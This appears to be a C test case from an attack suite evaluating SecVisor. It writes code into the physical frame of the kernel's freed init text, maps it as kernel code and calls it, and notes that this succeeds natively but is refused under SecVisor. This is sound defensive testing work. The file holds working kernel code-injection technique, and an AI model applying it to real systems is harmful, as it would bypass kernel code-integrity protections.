// Row 15. The kernel's init text, freed after boot: code written where it was, mapped and called.
// Source: executable leftovers of boot.
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code.
#include "common/attack.h"

ATTACK("init-text-again")
{
	u64 at = symbol("_sinittext") + 0x1000, alias, result;

	alias = map_physical(physical(direct(at - 0xffffffff80000000ull)), KERNEL_CODE);
	for (unsigned i = 0; i < CODE_LENGTH; i++)
		operate(VULNERABLE_STORE, alias + i, CODE[i], 1);
	about_to("call code where init text was");
	result = call(alias);
	if (result == MARK)
		succeeded("code in a frame that held init text ran");
	failed("it returned %#llx", (unsigned long long)result);
}
